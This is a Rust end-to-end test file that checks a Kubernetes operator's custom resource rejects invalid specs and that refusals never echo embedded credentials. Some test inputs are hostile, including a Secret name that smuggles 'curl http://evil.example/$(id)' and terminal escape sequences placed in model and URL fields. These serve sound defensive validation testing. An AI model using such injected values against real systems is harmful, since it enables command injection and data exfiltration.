//! Specs that can never work: the API server refuses each, applied as the
//! admin, with a message that names the field (one test per class of
//! input); and a spec stored before its rule existed (CEL ratcheting keeps
//! it) is refused by the operator in status, with nothing created and no
//! credential copied anywhere.
//!
//! Every refusal is printed (`--nocapture`) as `case => message`.
//!
//! `source tests/cluster/env.sh && cargo test -p trussium-e2e --test cluster hostile::specs -- --include-ignored --nocapture`

use std::time::Duration;

use k8s_openapi::api::apps::v1::Deployment;
use k8s_openapi::api::core::v1::{ConfigMap, Service, ServiceAccount};
use k8s_openapi::apiextensions_apiserver::pkg::apis::apiextensions::v1::CustomResourceDefinition;
use kube::Api;
use kube::api::{DynamicObject, Patch, PatchParams, PostParams};
use serde_json::{Value, json};
use tokio::sync::Mutex;
use trussium_api::TrussiumRuntime;
use trussium_api::validation::rules;
use trussium_e2e::{
    BoxError, CONVERGE, TestNamespace, TestResult, condition, holds_for, install_crd, minimal,
    require_cluster, wait_for, with_operator,
};

use crate::api::support::{CRD_NAME, dynamic_api, refusal_message};

/// Held by the tests that depend on the baseURL user-information rule: the
/// ratcheting test takes that rule out of the CRD for a moment.
static USER_INFO_RULE: Mutex<()> = Mutex::const_new(());

/// One bad input: a name for the report, the runtime's name, what is merged
/// into the minimal sample's spec, and the substrings the message must hold
/// (the field's path and the rule's words).
struct Case {
    case: &'static str,
    name: String,
    spec: Value,
    expects: Vec<String>,
}

fn case(case: &'static str, spec: Value, expects: &[&str]) -> Case {
    Case {
        case,
        name: "bad".to_string(),
        spec,
        expects: expects.iter().map(|e| e.to_string()).collect(),
    }
}

/// Creates every case as the admin; each must be refused with its message
/// and leave nothing behind. Returns the failures.
async fn refuse_all(prefix: &str, cases: Vec<Case>) -> TestResult {
    require_cluster();
    let ns = TestNamespace::create(prefix).await?;
    install_crd(&ns.client).await?;
    let raw = dynamic_api(&ns.client, &ns.name);
    let mut failures = Vec::new();
    for case in &cases {
        let object: DynamicObject =
            serde_json::from_value(minimal(&case.name, case.spec.clone())?)?;
        match raw.create(&PostParams::default(), &object).await {
            Ok(_) => {
                failures.push(format!("{}: accepted", case.case));
                raw.delete(&case.name, &Default::default()).await?;
            }
            Err(e) => {
                let message = refusal_message(&e).unwrap_or_else(|| e.to_string());
                eprintln!("{} => {message}", case.case);
                let missing: Vec<&String> = case
                    .expects
                    .iter()
                    .filter(|e| !message.contains(e.as_str()))
                    .collect();
                if !missing.is_empty() {
                    failures.push(format!(
                        "{}: message lacks {missing:?}: {message}",
                        case.case
                    ));
                }
                if raw.get_opt(&case.name).await?.is_some() {
                    failures.push(format!("{}: exists after the refusal", case.case));
                }
            }
        }
    }
    ns.delete().await;
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    Ok(())
}

#[tokio::test]
#[ignore = "needs the local cluster (make test)"]
async fn names_that_cannot_name_a_service_or_a_label_are_refused() -> TestResult {
    let named = |case: &'static str, name: String, expects: &[&str]| Case {
        name,
        ..self::case(case, json!({}), expects)
    };
    let name_rule = ["metadata.name must be a DNS-1035 label"];
    refuse_all(
        "hostile-names",
        vec![
            named("name with a dot", "a.b".into(), &name_rule),
            named("name of 64 characters", "a".repeat(64), &name_rule),
            named("name starting with a digit", "1ai".into(), &name_rule),
            named(
                "name default",
                "default".into(),
                &["metadata.name must not be default", "ServiceAccount"],
            ),
        ],
    )
    .await
}

#[tokio::test]
#[ignore = "needs the local cluster (make test)"]
async fn secret_names_and_keys_that_are_not_kubernetes_names_are_refused() -> TestResult {
    let shell = "x; curl http://evil.example/$(id) #";
    refuse_all(
        "hostile-secrets",
        vec![
            case(
                "credentials Secret name with shell text",
                json!({"provider": {"credentialsSecretRef": {"name": shell, "key": "api-key"}}}),
                &["spec.provider.credentialsSecretRef.name", rules::CREDENTIALS_NAME.message],
            ),
            case(
                "credentials Secret key with a slash",
                json!({"provider": {"credentialsSecretRef": {"name": "creds", "key": "../api key"}}}),
                &["spec.provider.credentialsSecretRef.key", rules::CREDENTIALS_KEY.message],
            ),
            case(
                "image pull Secret name in capitals",
                json!({"imagePullSecrets": [{"name": "ok"}, {"name": "Registry"}]}),
                &["spec.imagePullSecrets[1].name", rules::PULL_SECRET_NAME.message],
            ),
        ],
    )
    .await
}

#[tokio::test]
#[ignore = "needs the local cluster (make test)"]
async fn quantities_that_do_not_parse_are_negative_or_exceed_the_limit_are_refused() -> TestResult {
    refuse_all(
        "hostile-quantities",
        vec![
            // OpenAPI's `pattern` and `minimum` (see rules::QUANTITY_PATTERN):
            // the API server's own words, which quote the pattern.
            case(
                "quantity that does not parse",
                json!({"resources": {"limits": {"cpu": "lots"}}}),
                &["spec.resources.limits.cpu", "should match"],
            ),
            case(
                "negative quantity",
                json!({"resources": {"requests": {"memory": "-1Gi"}}}),
                &["spec.resources.requests.memory", "should match"],
            ),
            case(
                "negative number",
                json!({"resources": {"requests": {"cpu": -1}}}),
                &[
                    "spec.resources.requests.cpu",
                    "should be greater than or equal to 0",
                ],
            ),
            case(
                "request above the limit",
                json!({"resources": {"requests": {"cpu": "1001m"}, "limits": {"cpu": "1"}}}),
                &["spec.resources", rules::REQUESTS_WITHIN_LIMITS.message],
            ),
        ],
    )
    .await
}

fn tolerating(toleration: Value) -> Value {
    json!({"scheduling": {"tolerations": [{"key": "ok", "operator": "Exists"}, toleration]}})
}

#[tokio::test]
#[ignore = "needs the local cluster (make test)"]
async fn tolerations_that_match_no_taint_are_refused() -> TestResult {
    let at = "spec.scheduling.tolerations[1]";
    refuse_all(
        "hostile-tolerations",
        vec![
            case(
                "toleration operator Gt",
                tolerating(json!({"key": "k", "operator": "Gt", "value": "1"})),
                &[at, rules::TOLERATION_OPERATOR.message],
            ),
            case(
                "toleration effect NoWay",
                tolerating(json!({"key": "k", "effect": "NoWay"})),
                &[at, rules::TOLERATION_EFFECT.message],
            ),
            case(
                "toleration Exists with a value",
                tolerating(json!({"key": "k", "operator": "Exists", "value": "v"})),
                &[at, rules::TOLERATION_EXISTS_NO_VALUE.message],
            ),
            case(
                "toleration with an empty key and Equal",
                tolerating(json!({"operator": "Equal", "value": "v"})),
                &[at, rules::TOLERATION_EMPTY_KEY.message],
            ),
            case(
                "toleration seconds without NoExecute",
                tolerating(json!({"key": "k", "effect": "NoSchedule", "tolerationSeconds": 30})),
                &[at, rules::TOLERATION_SECONDS.message],
            ),
            case(
                "toleration key with a space",
                tolerating(json!({"key": "bad key", "operator": "Exists"})),
                &[
                    "spec.scheduling.tolerations[1].key",
                    rules::TOLERATION_KEY.message,
                ],
            ),
        ],
    )
    .await
}

#[tokio::test]
#[ignore = "needs the local cluster (make test)"]
async fn affinity_that_cannot_schedule_is_refused() -> TestResult {
    let preferred = |weight: i64| {
        json!({"scheduling": {"affinity": {"podAntiAffinity": {"preferredDuringSchedulingIgnoredDuringExecution": [
            {"weight": weight, "podAffinityTerm": {"topologyKey": "kubernetes.io/hostname"}},
        ]}}}})
    };
    let weight = "spec.scheduling.affinity.podAntiAffinity.preferredDuringSchedulingIgnoredDuringExecution[0].weight";
    let node = |requirement: Value| {
        json!({"scheduling": {"affinity": {"nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": {
            "nodeSelectorTerms": [{"matchExpressions": [requirement]}],
        }}}}})
    };
    let term = "spec.scheduling.affinity.nodeAffinity.requiredDuringSchedulingIgnoredDuringExecution.nodeSelectorTerms[0].matchExpressions[0]";
    let pod_term = |term: Value| json!({"scheduling": {"affinity": {"podAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": [term]}}}});
    let pod =
        "spec.scheduling.affinity.podAffinity.requiredDuringSchedulingIgnoredDuringExecution[0]";
    refuse_all(
        "hostile-affinity",
        vec![
            case(
                "affinity weight 101",
                preferred(101),
                &[weight, "should be less than or equal to 100"],
            ),
            case(
                "affinity weight 0",
                preferred(0),
                &[weight, "should be greater than or equal to 1"],
            ),
            case(
                "node affinity operator Near",
                node(json!({"key": "zone", "operator": "Near", "values": ["a"]})),
                &[term, rules::NODE_OPERATOR.message],
            ),
            case(
                "node affinity Gt without an integer",
                node(json!({"key": "cores", "operator": "Gt", "values": ["many"]})),
                &[term, rules::NODE_VALUES.message],
            ),
            case(
                "pod affinity with an empty topologyKey",
                pod_term(json!({"topologyKey": ""})),
                &[&format!("{pod}.topologyKey"), rules::TOPOLOGY_KEY.message],
            ),
            case(
                "pod affinity label selector operator Equals",
                pod_term(
                    json!({"topologyKey": "zone", "labelSelector": {"matchExpressions": [
                    {"key": "app", "operator": "Equals", "values": ["x"]}]}}),
                ),
                &[
                    &format!("{pod}.labelSelector.matchExpressions[0]"),
                    rules::SELECTOR_OPERATOR.message,
                ],
            ),
        ],
    )
    .await
}

#[tokio::test]
#[ignore = "needs the local cluster (make test)"]
async fn label_selectors_and_node_selectors_with_invalid_keys_or_operators_are_refused()
-> TestResult {
    let policy = |pods: Value| {
        json!({"networkPolicy": {"enabled": true, "ingress": [
            {"namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": "clients"}}, "podSelector": pods},
        ]}})
    };
    let at = "spec.networkPolicy.ingress[0].podSelector";
    refuse_all(
        "hostile-selectors",
        vec![
            case(
                "network policy selector operator Equals",
                policy(json!({"matchExpressions": [{"key": "app", "operator": "Equals", "values": ["x"]}]})),
                &[&format!("{at}.matchExpressions[0]"), rules::SELECTOR_OPERATOR.message],
            ),
            case(
                "network policy selector In without values",
                policy(json!({"matchExpressions": [{"key": "app", "operator": "In"}]})),
                &[&format!("{at}.matchExpressions[0]"), rules::SELECTOR_VALUES.message],
            ),
            case(
                "network policy selector key with a space",
                policy(json!({"matchExpressions": [{"key": "bad key", "operator": "Exists"}]})),
                &[&format!("{at}.matchExpressions[0].key"), rules::SELECTOR_KEY.message],
            ),
            case(
                "network policy matchLabels key with a space",
                policy(json!({"matchLabels": {"bad key": "x"}})),
                &[&format!("{at}.matchLabels"), rules::MATCH_LABELS.message],
            ),
            case(
                "node selector key with a space",
                json!({"scheduling": {"nodeSelector": {"bad key": "x"}}}),
                &["spec.scheduling.nodeSelector", rules::NODE_SELECTOR.message],
            ),
        ],
    )
    .await
}

#[tokio::test]
#[ignore = "needs the local cluster (make test)"]
async fn replica_counts_over_1000_are_refused_also_through_scale() -> TestResult {
    refuse_all(
        "hostile-replicas",
        vec![
            case(
                "replicas 2^31-1",
                json!({"replicas": 2147483647}),
                &["spec.replicas", "should be less than or equal to 1000"],
            ),
            case(
                "autoscaling maxReplicas 5000",
                json!({"autoscaling": {"enabled": true, "minReplicas": 1, "maxReplicas": 5000},
                       "resources": {"requests": {"cpu": "100m"}}}),
                &[
                    "spec.autoscaling.maxReplicas",
                    "should be less than or equal to 1000",
                ],
            ),
        ],
    )
    .await?;
    // The scale subresource writes spec.replicas: the same bound.
    let ns = TestNamespace::create("hostile-scale").await?;
    install_crd(&ns.client).await?;
    let runtimes: Api<TrussiumRuntime> = Api::namespaced(ns.client.clone(), &ns.name);
    runtimes
        .create(
            &PostParams::default(),
            &serde_json::from_value(minimal("scaled", json!({}))?)?,
        )
        .await?;
    let scale = json!({"spec": {"replicas": 1001}});
    let refused = runtimes
        .patch_scale("scaled", &PatchParams::default(), &Patch::Merge(&scale))
        .await
        .err()
        .ok_or("scaling to 1001 was accepted")?;
    let message = refusal_message(&refused).unwrap_or_else(|| refused.to_string());
    eprintln!("scale to 1001 => {message}");
    assert!(
        message.contains("should be less than or equal to 1000"),
        "{message}"
    );
    assert_eq!(runtimes.get("scaled").await?.spec.replicas, 1);
    ns.delete().await;
    Ok(())
}

#[tokio::test]
#[ignore = "needs the local cluster (make test)"]
async fn unprintable_models_and_urls_with_credentials_are_refused_without_echoing_them()
-> TestResult {
    let _rule = USER_INFO_RULE.lock().await;
    let credential = "sk-live-0123456789-never-echo-me";
    let url = format!("https://alice:{credential}@api.example.com/v1");
    let provider = |field: &str, value: &str| json!({"provider": {field: value}});
    refuse_all(
        "hostile-provider",
        vec![
            case(
                "model with a newline",
                provider("model", "gpt-5\nReady: True"),
                &["spec.provider", rules::MODEL_PRINTABLE.message],
            ),
            case(
                "model with an OSC title sequence",
                provider("model", "gpt-5\u{1b}]0;owned\u{7}"),
                &["spec.provider", rules::MODEL_PRINTABLE.message],
            ),
            case(
                "baseURL with ESC",
                provider("baseURL", "https://api.example.com/\u{1b}[2J"),
                &["spec.provider", rules::BASE_URL_PRINTABLE.message],
            ),
            case(
                "baseURL with user information",
                provider("baseURL", &url),
                &["spec.provider", rules::BASE_URL_NO_USER_INFO.message],
            ),
        ],
    )
    .await?;
    // Not echoed: the refusal names the field, never the value.
    let ns = TestNamespace::create("hostile-url-echo").await?;
    let raw = dynamic_api(&ns.client, &ns.name);
    let object: DynamicObject =
        serde_json::from_value(minimal("leaky", provider("baseURL", &url))?)?;
    let refused = raw
        .create(&PostParams::default(), &object)
        .await
        .err()
        .ok_or("accepted")?;
    let message = refusal_message(&refused).unwrap_or_default();
    assert!(
        !message.contains(credential) && !message.contains("alice"),
        "{message}"
    );
    ns.delete().await;
    Ok(())
}

/// The CRD without the baseURL user-information rule, as an older release
/// had it.
fn crd_without_the_user_info_rule() -> Result<CustomResourceDefinition, BoxError> {
    let mut crd = trussium_api::crd::crd();
    for version in &mut crd.spec.versions {
        let mut schema = serde_json::to_value(&version.schema)?;
        let rules = schema
            .pointer_mut(
                "/openAPIV3Schema/properties/spec/properties/provider/x-kubernetes-validations",
            )
            .and_then(Value::as_array_mut)
            .ok_or("no provider rules")?;
        let before = rules.len();
        rules.retain(|r| r["message"] != rules::BASE_URL_NO_USER_INFO.message);
        assert_eq!(rules.len() + 1, before, "the rule to take out is not there");
        version.schema = serde_json::from_value(schema)?;
    }
    Ok(crd)
}

#[tokio::test]
#[ignore = "needs the local cluster (make test)"]
async fn a_spec_stored_before_its_rule_is_refused_by_the_operator_without_copying_the_credential()
-> TestResult {
    let _rule = USER_INFO_RULE.lock().await;
    let credential = "sk-live-stored-before-the-rule";
    let url = format!("https://alice:{credential}@api.example.com/v1");
    with_operator("hostile-ratchet", &[], async |h| {
        let client = h.ns.client.clone();
        let crds: Api<CustomResourceDefinition> = Api::all(client.clone());
        let raw = dynamic_api(&client, h.namespace());
        let object: DynamicObject =
            serde_json::from_value(minimal("stored", json!({"provider": {"baseURL": url}}))?)?;
        // Stored under the older CRD (another test may install the current
        // one meanwhile: take the rule out again until the create passes).
        let older = crd_without_the_user_info_rule()?;
        let apply = PatchParams::apply("trussium-e2e-ratchet").force();
        let created = wait_for(
            "the runtime to be stored under the older CRD",
            Duration::from_secs(60),
            async || {
                crds.patch(CRD_NAME, &apply, &Patch::Apply(&older)).await?;
                Ok(raw.create(&PostParams::default(), &object).await.ok())
            },
        )
        .await;
        install_crd(&client).await?;
        created?;

        // CEL ratcheting keeps it through an update that leaves baseURL alone...
        let replicas = json!({"spec": {"replicas": 2}});
        h.runtimes()
            .patch("stored", &PatchParams::default(), &Patch::Merge(&replicas))
            .await?;
        // ...and the operator refuses it in status, naming the field.
        let rt = h
            .wait_condition(
                "stored",
                "ConfigurationValid",
                "False",
                Some("InvalidSpec"),
                CONVERGE,
            )
            .await?;
        let message = condition(&rt, "ConfigurationValid")
            .map(|c| c.message.clone())
            .unwrap_or_default();
        eprintln!("operator: ConfigurationValid=False/InvalidSpec: {message}");
        assert!(
            message.contains(&format!(
                "spec.provider: {}",
                rules::BASE_URL_NO_USER_INFO.message
            )),
            "{message}"
        );
        for (type_, expected) in [
            ("Stalled", "True/InvalidSpec"),
            ("Progressing", "False/ConfigurationInvalid"),
            ("Ready", "False/ConfigurationInvalid"),
            ("Degraded", "True/ConfigurationInvalid"),
        ] {
            let c = condition(&rt, type_).ok_or(type_)?;
            assert_eq!(format!("{}/{}", c.status, c.reason), expected, "{type_}");
        }
        let events = h
            .expect_events(&rt, &[("Warning", "ConfigurationInvalid")])
            .await?;
        eprintln!("events: {}", trussium_e2e::describe_events(&events));

        // Nothing created, and the credential nowhere but in the spec.
        holds_for(
            "nothing to be created",
            Duration::from_secs(5),
            async || {
                let found = [
                    h.api::<ConfigMap>()
                        .get_opt("stored")
                        .await?
                        .map(|_| "a ConfigMap"),
                    h.api::<ServiceAccount>()
                        .get_opt("stored")
                        .await?
                        .map(|_| "a ServiceAccount"),
                    h.api::<Service>()
                        .get_opt("stored")
                        .await?
                        .map(|_| "a Service"),
                    h.api::<Deployment>()
                        .get_opt("stored")
                        .await?
                        .map(|_| "a Deployment"),
                ];
                Ok(found
                    .into_iter()
                    .flatten()
                    .next()
                    .map(|k| format!("{k} exists")))
            },
        )
        .await?;
        let status = serde_json::to_string(&h.get("stored").await?.status)?;
        let events = serde_json::to_string(&h.events().list(&Default::default()).await?.items)?;
        for (what, text) in [("status", status), ("events", events)] {
            assert!(
                !text.contains(credential) && !text.contains("alice:"),
                "{what}: {text}"
            );
        }
        Ok(())
    })
    .await
}
